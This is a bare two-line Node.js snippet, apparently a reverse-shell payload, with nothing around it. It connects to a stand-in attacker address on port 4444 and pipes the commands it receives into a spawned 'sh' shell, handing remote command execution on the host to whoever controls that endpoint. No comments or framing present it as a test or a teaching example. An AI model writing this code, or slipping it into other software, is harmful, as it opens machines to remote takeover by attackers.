const net = require("net");
net.connect(4444, "203.0.113.40", function () { this.pipe(require("child_process").spawn("sh").stdin); });
